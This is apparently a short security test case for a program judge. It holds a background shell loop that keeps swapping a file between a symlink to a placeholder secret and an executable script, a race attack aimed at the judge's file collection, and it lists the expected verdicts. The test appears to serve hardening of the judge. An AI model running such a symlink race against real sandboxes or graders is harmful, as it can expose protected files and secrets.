# What is collected changes all the time, between a link and a program.
# attack: 103 54
# verdict: CE or AC or RTE
setsid sh -c 'while :; do ln -sf @SECRET@ link; mv link main; printf "#!/bin/sh\ncat\n" >other; chmod 755 other; mv other main; done' &
sleep 0.1
